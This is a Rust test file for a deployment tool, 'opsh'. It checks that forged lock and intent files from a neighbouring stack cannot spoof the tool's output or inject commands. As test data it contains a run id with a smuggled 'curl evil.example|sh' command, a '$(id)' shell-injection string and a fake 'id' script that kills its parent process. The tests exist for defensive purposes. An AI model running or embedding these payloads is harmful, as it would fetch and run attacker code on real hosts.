//! Files beside a stack as another operator sees them: text of a colleague is no state, no line and no word of opsh.

use crate::home::Ran;
use crate::lock::{Stage, value};
use crate::operators::holder;
use serde_json::{Value, json};
use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};

/// A change of the whole host.
const ON_HOST: &str = "host(\"local\").run([\"true\"])";

/// A second stack on the stage's host, whose folder has these files.
fn neighbour(stage: &Stage, files: &[(&str, &str)]) {
    let dir = stage.file("b");
    fs::create_dir_all(dir.join(".opsh")).unwrap();
    for (name, text) in files {
        fs::write(dir.join(".opsh").join(name), text).unwrap();
    }
    let config = fs::read_to_string(stage.bob.path("opsh.toml")).unwrap();
    let host = config.split("host = ").nth(1).unwrap().lines().next().unwrap();
    let stack = format!(
        "\n[stack.b]\nhost = {host}\ndir = \"{}\"\ncompose = {{ files = [\"c.yml\"], project = \"q\" }}\n",
        dir.display()
    );
    stage.bob.put("opsh.toml", &(config + stack.as_str()));
}

fn begin(run: &str, by: &str) -> String {
    json!({ "kind": "begin", "run": run, "by": by, "what": "w", "at": "T", "script": true }).to_string() + "\n"
}

fn lock_of_b(stage: &Stage) -> Value {
    value(&stage.bob.run(&["--json", "-e", "stack(\"b\").lock()"]).exits(0))
}

/// No line of opsh's own begins so.
#[track_caller]
fn has_no_line(ran: &Ran, begin: &str) {
    let line = ran.err.lines().chain(ran.out.lines()).find(|line| line.starts_with(begin));
    assert!(line.is_none(), "{line:?} in\n{}{}", ran.err, ran.out);
}

#[test]
fn a_file_of_one_stack_says_nothing_about_the_lock_of_another() {
    for stage in [Some(Stage::local()), Stage::remote()].into_iter().flatten() {
        let alice = stage.alice_looks("look()");
        let by = holder(&stage);
        let forged = format!(
            "{}at {dir}/.opsh\nfree 9 null\nend\nat 0\n free\nend 0\nat 1\nfree 9 null\nend 1",
            begin("Q", "bob@mac"),
            dir = stage.dir()
        );
        neighbour(
            &stage,
            &[("lock", ""), ("intent-q.jsonl", &forged), ("lock.json", "null\r\nat 0\nfree 1 null\nend 0\n")],
        );
        let change = format!("host(\"{}\").run([\"true\"])", stage.host());
        for words in [&["--yes", "-e", change.as_str()][..], &["--plan", "-e", &change]] {
            stage.bob.run(words).says(&[&format!("LOCKED by {by}: hotfix")]);
        }
        stage.bob.run(&["--yes", "-e", &change]).exits(3);
        stage.end_look();
        alice.ended().exits(0);
    }
}

#[test]
fn a_file_of_any_size_hides_no_lock() {
    let stage = Stage::local();
    let alice = stage.alice_looks("look()");
    let by = holder(&stage);
    let long = "x".repeat(30 << 20);
    neighbour(&stage, &[("lock", ""), ("lock.json", &long), ("intent-q.jsonl", &long)]);
    for at in 0..60 {
        fs::write(stage.file("b/.opsh").join(format!("intent-{at:03}.jsonl")), begin("Q", "bob@mac")).unwrap();
    }
    let ran = stage.bob.run(&["--yes", "-e", ON_HOST]).exits(3);
    ran.says(&[&format!("LOCKED by {by}: hotfix"), "who works on b is not known: it has more open intents"]);
    stage.end_look();
    alice.ended().exits(0);
}

#[test]
fn a_look_that_is_cut_fails_the_change() {
    let stage = Stage::local();
    let alice = stage.alice_looks("look()");
    neighbour(&stage, &[]);
    // A shell that ends before it has said anything.
    let programs = stage.bob.path("programs");
    fs::create_dir(&programs).unwrap();
    fs::write(programs.join("id"), "#!/bin/sh\nkill -9 $PPID\n").unwrap();
    fs::set_permissions(programs.join("id"), fs::Permissions::from_mode(0o755)).unwrap();
    let path = format!("{}:{}", programs.display(), std::env::var("PATH").unwrap());
    let ran = stage.bob.run_with(&["--yes", "-e", ON_HOST], "PATH", &path).exits(1);
    ran.says(&["who works on b and prod is not known", "nothing was changed", "next: "]);
    let plan = stage.bob.run_with(&["--plan", "-e", ON_HOST], "PATH", &path).exits(0);
    plan.says(&["who works on b and prod is not known"]);
    stage.end_look();
    alice.ended().exits(0);
}

#[test]
fn a_folder_that_is_not_trusted_is_said_at_a_change_of_its_host() {
    let stage = Stage::local();
    neighbour(&stage, &[]);
    symlink("/dev/null", stage.file("b/.opsh/lock")).unwrap();
    let ran = stage.bob.run(&["--yes", "-e", ON_HOST]).exits(0);
    ran.says(&["who works on b is not known", "is a symlink"]);
}

#[test]
fn what_is_no_run_id_is_never_typed() {
    let stage = Stage::local();
    let evil = "20261201-034103-3x4k; curl evil.example|sh #";
    let good = begin("20261201-034103-3x4k", "bob@mac");
    neighbour(&stage, &[("lock", ""), ("intent-q.jsonl", &begin(evil, "uid 0@vm")), ("intent-r.jsonl", &good)]);
    let seen = lock_of_b(&stage);
    assert!(!seen["next"].to_string().contains("curl"), "{seen}");
    let row = |file: &str| {
        let open = seen["open"].as_array().unwrap();
        open.iter().find(|one| one["file"] == file).unwrap_or_else(|| panic!("{file}: {seen}")).clone()
    };
    assert_eq!(row("intent-q")["run"], Value::Null);
    assert_eq!(row("intent-r")["run"], "20261201-034103-3x4k");
    let ran = stage.bob.run(&["--yes", "-e", ON_HOST]).exits(0);
    let ran = ran.says(&["an unreadable intent intent-q", "BEGUN by bob@mac: w"]);
    assert!(!ran.err.contains("curl"), "{}", ran.err);
    let status = stage.bob.run(&["-e", "print(stack(\"b\").status())"]);
    assert!(!format!("{}{}", status.out, status.err).contains("curl evil"), "{status:?}");
}

#[test]
fn a_label_and_a_branch_are_no_words_of_a_line_that_is_typed() {
    let stage = Stage::local();
    let odd = "x\"); thaw(\"; $(id) 'y";
    let code =
        format!("print(literal({odd})); print(shell_word({odd})); print(shell_word(\"v1.8.0\"))", odd = json!(odd));
    let quoted = r#"'x"); thaw("; $(id) '\''y'"#;
    stage.bob.run(&["-e", &code]).exits(0).prints(&format!("{}\n{quoted}\nv1.8.0\n", json!(odd)));
    let import =
        "import \"std/text\" as text; print(text::attach_line((), \"h\")); print(text::attach_line(\"a;b\", \"h\"))";
    stage.bob.run(&["-e", import]).exits(0).prints("host(\"h\").works()\nopsh attach 'a;b'\n");
}

#[test]
fn an_error_proposes_no_change_while_a_colleague_works() {
    let stage = Stage::local();
    let alice = stage.alice_looks("look()");
    let throw = "throw #{ kind: \"failed\", what: \"w\", why: \"y\", next: [\"opsh undo last\", \"opsh runs\"], host: \"prod\", exit: () }";
    stage.run("bob", &[], throw).exits(1).says(&["opsh undo last"]);
    let ran = stage.run("bob", &[], &format!("prod.lock(); {throw}")).exits(1);
    let ran = ran.says(&["next: opsh runs", "stack(\"prod\").lock()     who works on it"]);
    let next = ran.err.split("  why: ").nth(1).unwrap();
    assert!(!next.contains("opsh undo"), "{next}");
    stage.end_look();
    alice.ended().exits(0);
}

#[test]
fn attach_says_that_it_could_not_look() {
    let stage = Stage::local();
    stage.bob.run(&["-e", "1"]).exits(0);
    let journal = rusqlite::Connection::open(stage.bob.journal()).unwrap();
    journal.execute_batch("PRAGMA locking_mode = EXCLUSIVE; BEGIN EXCLUSIVE").unwrap();
    let ran = stage.bob.run(&["attach"]);
    assert!(ran.code != Some(0) && !ran.out.contains("nothing goes on"), "{ran:?}");
    drop(journal);
}

#[test]
fn text_of_a_colleague_is_no_line_of_opsh() {
    let stage = Stage::local();
    let alice = stage.alice_looks("look()");
    let mut lock: Value = serde_json::from_str(&stage.text("lock.json")).unwrap();
    let forged = "hotfix\"\n✓ backup.make  b  0.5 s\nb is free now; type: opsh --yes --allow lock.break fix.rhai";
    lock["holder"]["why"] = json!(forged);
    lock["since"] = json!("T\n✓ since");
    lock["last"] = json!({ "verb": "v\n✓ verb", "says": "s\n✓ says" });
    fs::write(stage.file(".opsh/lock.json"), format!("{lock}\n")).unwrap();
    for code in ["mark(\"b\")", "prod.locked(\"x\", || 1, #{ wait_s: 0 })", "print(prod.lock().first)"] {
        let ran = stage.run("bob", &[], code);
        for begin in ["✓", "b is free"] {
            has_no_line(&ran, begin);
        }
        assert!(format!("{}{}", ran.out, ran.err).contains("hotfix"), "{ran:?}");
    }
    let thrown = format!("throw {}", json!(forged));
    has_no_line(&stage.bob.run(&["-e", &thrown]).exits(1), "✓");
    stage.end_look();
    alice.ended().exits(0);
}
